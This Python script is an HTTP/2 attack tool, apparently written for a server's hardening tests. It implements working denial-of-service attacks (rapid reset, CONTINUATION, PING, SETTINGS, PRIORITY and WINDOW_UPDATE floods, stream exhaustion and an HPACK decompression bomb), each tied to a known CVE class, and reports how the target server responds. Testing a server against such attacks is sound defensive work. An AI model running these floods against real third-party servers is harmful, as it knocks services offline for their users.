#!/usr/bin/env python3
"""HTTP/2 attacker for augur's hardening tests (tests/tests/h2_attacks.rs).

Speaks prior-knowledge cleartext HTTP/2 (h2c) to one address and runs one attack, bounded by
--duration seconds, again on a new connection each time the server closes one (at most
--connections times). With --until-closed, --duration only bounds when a new connection may
start: each connection attacks until the server closes it (or --count is reached, or
--give-up seconds pass), so an attack ends when the server ends it, not when the attacker's
clock does. Then it prints a JSON summary on stdout: totals, and per connection
(`runs`) the frames sent, bytes sent and read, and whether and when the server closed the
connection (GOAWAY with its error code and debug data, RST_STREAM codes, EOF or a TCP reset). Frames are built with `hyperframe` and header blocks with `hpack`
(both come with PyPI `h2`, installed by scripts/setup.sh into .cache/h2-venv): the attacks
break the protocol on purpose, which the `h2` state machine would refuse to do.

Modes (CVE classes from docs/hardening.md and the reliability reference):
  rapid-reset         HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487)
  continuation-flood  one HEADERS without END_HEADERS, then CONTINUATION frames without end
                      (CVE-2024-30255)
  ping-flood          PING frames as fast as the socket takes them, never reading the ACKs
  settings-flood      SETTINGS frames likewise, never reading the ACKs
  priority-flood      PRIORITY frames that need no answer, as fast as the server reads them
                      (CVE-2019-9513)
  window-update-flood WINDOW_UPDATE frames of 1 on the connection, likewise
  streams-over-limit  --streams requests left open (no END_STREAM); counts what the server
                      refuses (REFUSED_STREAM) against its SETTINGS_MAX_CONCURRENT_STREAMS
  hpack-bomb          one large `cookie` header put in the HPACK dynamic table, then header
                      blocks of one-byte references to it: a few KiB on the wire decode to
                      MiBs (decoded-size bomb, CVE-2026-47774)
"""

import argparse
import errno
import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# RFC 9113 section 6.5.2 setting identifiers.
SETTINGS_NAMES = {
    0x1: "HEADER_TABLE_SIZE",
    0x2: "ENABLE_PUSH",
    0x3: "MAX_CONCURRENT_STREAMS",
    0x4: "INITIAL_WINDOW_SIZE",
    0x5: "MAX_FRAME_SIZE",
    0x6: "MAX_HEADER_LIST_SIZE",
    0x8: "ENABLE_CONNECT_PROTOCOL",
}


def hpack_int(value, prefix_bits, first_byte=0):
    """An HPACK integer (RFC 7541 5.1) with `prefix_bits` in the first byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out, value = [first_byte | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value):
    """A literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2): it
    leaves the decoder's dynamic table as it is."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value

# RFC 9113 section 7 error codes, by value, for a readable summary.
ERROR_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}


class Attack:
    """One attacking connection: sends frames, reads and tallies what the server answers."""

    def __init__(self, host, port, authority, duration, until_closed=False):
        self.authority = authority
        self.until_closed = until_closed
        self.started = time.monotonic()
        self.deadline = self.started + duration
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.encoder = hpack.Encoder()
        # Every response header block is decoded, so this table follows the server's encoder.
        self.decoder = hpack.Decoder()
        self.inbox = b""
        self.summary = {
            "frames_sent": 0,
            "bytes_sent": 0,
            "bytes_read": 0,
            "write_stalled_s": 0.0,
            "closed": False,
            "closed_by": None,
            "closed_after_s": None,
            "ended": None,
            "goaway": None,
            "rst_streams": {},
            "responses": {},
            "server_settings": {},
        }

    def elapsed(self):
        return round(time.monotonic() - self.started, 3)

    def time_left(self):
        return self.deadline - time.monotonic()

    def closed(self, how):
        """Records the first sign that the server ended the connection."""
        if not self.summary["closed"]:
            self.summary["closed"] = True
            self.summary["closed_by"] = how
            self.summary["closed_after_s"] = self.elapsed()

    # --- writing -------------------------------------------------------------------------

    def send(self, data, frames=1, block=True):
        """Writes `data` (holding `frames` frames). With `block`, waits for the socket to take
        it all (time spent waiting is counted as stalled) until the deadline; without, writes
        what the socket takes now. Returns False once the connection is gone or time is up."""
        view = memoryview(data)
        while view:
            try:
                n = self.sock.send(view)
            except BlockingIOError:
                if not block or self.time_left() <= 0:
                    return False
                waited = time.monotonic()
                select.select([], [self.sock], [], min(0.05, max(self.time_left(), 0)))
                self.summary["write_stalled_s"] += time.monotonic() - waited
                continue
            except OSError as e:
                # EPIPE / ECONNRESET: the server closed while we were writing.
                self.closed("reset" if e.errno == errno.ECONNRESET else "write-error")
                return False
            self.summary["bytes_sent"] += n
            view = view[n:]
        self.summary["frames_sent"] += frames
        return True

    def handshake(self, wait_settings=True):
        """Connection preface and our SETTINGS (not counted as attack frames); then, unless
        the attack never reads, waits up to a second for the server's SETTINGS. The attack's
        clock (`closed_after_s`, `elapsed_s`) starts after this."""
        self.send(PREFACE + SettingsFrame(0).serialize(), frames=0)
        give_up = time.monotonic() + 1.0
        while wait_settings and not self.summary["server_settings"]:
            if time.monotonic() > give_up or not self.read(0.05):
                break
        self.started = time.monotonic()

    def headers(self, stream_id, extra=(), end_stream=True, method="GET", path="/"):
        fields = [
            (":method", method),
            (":scheme", "http"),
            (":authority", self.authority),
            (":path", path),
        ]
        fields.extend(extra)
        frame = HeadersFrame(stream_id, data=self.encoder.encode(fields))
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    # --- reading -------------------------------------------------------------------------

    def read(self, wait=0.0):
        """Reads what the server sent within `wait` seconds and tallies its frames. Returns
        False once the connection is closed."""
        if self.summary["ended"]:
            return False
        end = time.monotonic() + wait
        while True:
            timeout = max(end - time.monotonic(), 0)
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return True
            try:
                chunk = self.sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                self.closed("reset")
                self.summary["ended"] = "reset"
                return False
            if not chunk:
                self.closed("eof")
                self.summary["ended"] = "eof"
                return False
            self.summary["bytes_read"] += len(chunk)
            self.inbox += chunk
            self.parse_frames()

    def drain(self, wait):
        """Reads until EOF, or `wait` seconds without a byte; with --until-closed, until EOF
        or the connection's deadline."""
        if self.until_closed:
            while self.time_left() > 0 and self.read(min(0.25, self.time_left())):
                pass
            return
        while self.read(wait):
            if not select.select([self.sock], [], [], 0)[0]:
                return

    def parse_frames(self):
        while len(self.inbox) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbox[:9]))
            if len(self.inbox) < 9 + length:
                return
            body, self.inbox = self.inbox[9 : 9 + length], self.inbox[9 + length :]
            frame.parse_body(memoryview(body))
            self.tally(frame)

    def tally(self, frame):
        s = self.summary
        if isinstance(frame, GoAwayFrame):
            if s["goaway"] is None:
                s["goaway"] = {
                    "error": ERROR_CODES.get(frame.error_code, hex(frame.error_code)),
                    "last_stream_id": frame.last_stream_id,
                    "after_s": self.elapsed(),
                    "debug": frame.additional_data.decode("utf-8", "replace"),
                }
            self.closed("goaway")
        elif isinstance(frame, RstStreamFrame):
            code = ERROR_CODES.get(frame.error_code, hex(frame.error_code))
            s["rst_streams"][code] = s["rst_streams"].get(code, 0) + 1
            self.on_reset(frame.stream_id, code)
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            for key, value in frame.settings.items():
                s["server_settings"][SETTINGS_NAMES.get(key, str(key))] = value
            if not self.summary["closed"]:
                self.send(SettingsFrame(0, flags=["ACK"]).serialize(), frames=0, block=False)
        elif isinstance(frame, HeadersFrame):
            status = self.response_status(frame)
            s["responses"][status] = s["responses"].get(status, 0) + 1
            self.on_response(frame.stream_id)

    def response_status(self, frame):
        try:
            fields = dict(self.decoder.decode(frame.data))
        except Exception:  # noqa: BLE001 - a broken response block is reported, not raised
            return "undecodable"
        return str(fields.get(":status", fields.get(b":status", "?")))

    def on_reset(self, stream_id, code):
        """Hook for modes that follow streams."""

    def on_response(self, stream_id):
        """Hook for modes that follow streams."""

    def report(self, **extra):
        """Completes this connection's summary."""
        self.summary["write_stalled_s"] = round(self.summary["write_stalled_s"], 3)
        self.summary["elapsed_s"] = self.elapsed()
        self.summary.update(extra)


# --- attacks -----------------------------------------------------------------------------


def rapid_reset(a, args):
    """HEADERS + RST_STREAM(CANCEL) pairs, in batches, reading between batches."""
    a.handshake()
    stream_id, pairs = 1, 0
    while pairs < args.count and a.time_left() > 0 and not a.summary["closed"]:
        batch = b""
        n = min(50, args.count - pairs)
        for _ in range(n):
            batch += a.headers(stream_id) + RstStreamFrame(stream_id, error_code=0x8).serialize()
            stream_id += 2
        pairs += n
        if not a.send(batch, frames=2 * n):
            break
        a.read(0)
    a.drain(1.0)
    a.report(mode="rapid-reset", pairs_sent=pairs)


def continuation_flood(a, args):
    """HEADERS without END_HEADERS, then CONTINUATION frames of --frame-bytes each. The
    block is a valid run of literal header fields, so only its length is abusive."""
    a.handshake()
    first = HeadersFrame(1, data=a.encoder.encode([(":method", "GET"), (":scheme", "http"),
                                                   (":authority", a.authority), (":path", "/")]))
    if not a.send(first.serialize()):
        a.report(mode="continuation-flood", continuation_frames=0)
        return
    # Self-contained literal fields: any number of them is a valid block, only too long.
    field = literal("x-flood", "a" * 100)
    block = field * (args.frame_bytes // len(field) + 1)
    frames = 0
    while frames < args.count and a.time_left() > 0 and not a.summary["closed"]:
        burst = b"".join(
            ContinuationFrame(1, data=block[: args.frame_bytes]).serialize() for _ in range(10)
        )
        if not a.send(burst, frames=10):
            break
        frames += 10
        a.read(0)
    a.drain(1.0)
    a.report(mode="continuation-flood", continuation_frames=frames,
             frame_bytes=args.frame_bytes)


def control_flood(a, args, kind):
    """PING or SETTINGS frames, never reading: the server's ACKs pile up on its side. The
    flood goes on until --duration, the server closes, or --count frames are sent."""
    a.handshake(wait_settings=False)
    if kind == "ping":
        frame = PingFrame(0, opaque_data=b"augur-fl").serialize()
    else:
        frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    burst = frame * 64
    frames = 0
    while frames < args.count and a.time_left() > 0:
        if not a.send(burst, frames=64):
            break
        frames += 64
    # Only now look at what came back: the GOAWAY, if any, sits behind the ACKs.
    a.drain(1.0)
    a.report(mode=f"{kind}-flood")


def frame_flood(a, args, kind):
    """Frames that ask for no answer (PRIORITY, or WINDOW_UPDATE of 1 on the connection),
    as fast as the server reads them: nothing piles up, so only the server's own fairness
    keeps other connections served (CVE-2019-9513's resource loop; Envoy bounds it with
    max_inbound_priority_frames_per_stream and max_requests_per_io_cycle)."""
    a.handshake()
    if kind == "priority":
        frame = PriorityFrame(1, depends_on=0, stream_weight=16).serialize()
    else:
        frame = WindowUpdateFrame(0, window_increment=1).serialize()
    burst = frame * 1024
    frames = 0
    while frames < args.count and a.time_left() > 0 and not a.summary["closed"]:
        if not a.send(burst, frames=1024):
            break
        frames += 1024
        a.read(0)
    a.drain(1.0)
    a.report(mode=f"{kind}-flood")


class StreamTracker(Attack):
    """Follows which of our streams the server refused, reset or answered."""

    def __init__(self, *args):
        super().__init__(*args)
        self.open = set()

    def on_reset(self, stream_id, code):
        self.open.discard(stream_id)

    def on_response(self, stream_id):
        self.open.discard(stream_id)


def streams_over_limit(a, args):
    """--streams POST requests whose bodies never come (no END_STREAM): at most the server's
    SETTINGS_MAX_CONCURRENT_STREAMS may be open at once, the rest must be refused."""
    a.handshake()
    stream_id = 1
    for _ in range(args.streams):
        if not a.send(a.headers(stream_id, end_stream=False, method="POST", path="/open")):
            break
        a.open.add(stream_id)
        stream_id += 2
    # The server answers REFUSED_STREAM as it reads; the ones left open are what it accepted.
    # Read until the server has been quiet for a second (or time is up).
    while a.time_left() > 0:
        before = a.summary["bytes_read"]
        if not a.read(1.0) or a.summary["bytes_read"] == before:
            break
    # Streams above a GOAWAY's last stream id were never processed: not open on the server.
    goaway = a.summary["goaway"]
    last = goaway["last_stream_id"] if goaway else stream_id
    a.report(mode="streams-over-limit", streams_sent=(stream_id - 1) // 2,
             still_open=len([s for s in a.open if s <= last]))


def hpack_bomb(a, args):
    """Puts `cookie: a=bbb...` (--value-bytes) in the server's HPACK dynamic table, then sends
    requests whose header block is --refs one-byte references to it."""
    a.handshake()
    value = "a=" + "b" * (args.value_bytes - 2)
    # Stream 1 indexes the field (literal with incremental indexing): dynamic index 62.
    a.send(a.headers(1, extra=[("cookie", value)]))
    stream_id, wire, decoded = 3, 0, 0
    while stream_id < 2 * args.count and a.time_left() > 0 and not a.summary["closed"]:
        # The newest dynamic entry stays at index 62 as long as nothing else is indexed:
        # pseudo-headers as literals without indexing, then 0xBE (indexed field 62) x refs.
        pseudo = b"".join(
            literal(name, val)
            for name, val in [(":method", "GET"), (":scheme", "http"),
                              (":authority", a.authority), (":path", "/bomb")]
        )
        block = pseudo + b"\xbe" * args.refs
        frame = HeadersFrame(stream_id, data=block)
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        if not a.send(frame.serialize()):
            break
        wire += len(block)
        decoded += args.refs * (len("cookie") + len(value) + 32)
        stream_id += 2
        a.read(0)
    a.drain(1.0)
    a.report(mode="hpack-bomb", requests_sent=(stream_id - 3) // 2, header_wire_bytes=wire,
             header_decoded_bytes=decoded)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("mode", choices=sorted(ATTACKS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", default="model", help=":authority of the requests")
    p.add_argument("--duration", type=float, default=5.0,
                   help="seconds the whole attack may run, over all its connections")
    p.add_argument("--connections", type=int, default=1,
                   help="attack again on a new connection each time one is closed, this many "
                        "times at most (while --duration lasts)")
    p.add_argument("--until-closed", action="store_true",
                   help="each connection attacks until the server closes it (or --count or "
                        "--give-up is reached); --duration only bounds new connections")
    p.add_argument("--give-up", type=float, default=30.0,
                   help="with --until-closed: seconds after which a connection the server "
                        "left open is abandoned (and reported open)")
    p.add_argument("--count", type=int, default=10_000,
                   help="most frames (floods) or requests to send per connection")
    p.add_argument("--frame-bytes", type=int, default=16_384,
                   help="continuation-flood: payload of each CONTINUATION frame")
    p.add_argument("--streams", type=int, default=1_000, help="streams-over-limit: streams")
    p.add_argument("--value-bytes", type=int, default=4_000,
                   help="hpack-bomb: size of the indexed cookie (fits the 4 KiB table)")
    p.add_argument("--refs", type=int, default=4_000,
                   help="hpack-bomb: references per header block")
    args = p.parse_args()

    cls, attack = ATTACKS[args.mode]
    deadline = time.monotonic() + args.duration
    runs = []
    while len(runs) < args.connections and time.monotonic() < deadline - 0.05:
        budget = args.give_up if args.until_closed else deadline - time.monotonic()
        a = cls(args.host, args.port, args.authority, budget, args.until_closed)
        try:
            attack(a, args)
        finally:
            a.sock.close()
        runs.append(a.summary)
    print(json.dumps({
        "mode": args.mode,
        "connections": len(runs),
        "all_closed": all(r["closed"] for r in runs),
        "frames_sent": sum(r["frames_sent"] for r in runs),
        "bytes_sent": sum(r["bytes_sent"] for r in runs),
        "runs": runs,
    }, sort_keys=True))
    return 0


ATTACKS = {
    "rapid-reset": (Attack, rapid_reset),
    "continuation-flood": (Attack, continuation_flood),
    "ping-flood": (Attack, lambda a, args: control_flood(a, args, "ping")),
    "settings-flood": (Attack, lambda a, args: control_flood(a, args, "settings")),
    "priority-flood": (Attack, lambda a, args: frame_flood(a, args, "priority")),
    "window-update-flood": (Attack, lambda a, args: frame_flood(a, args, "window-update")),
    "streams-over-limit": (StreamTracker, streams_over_limit),
    "hpack-bomb": (Attack, hpack_bomb),
}


if __name__ == "__main__":
    sys.exit(main())
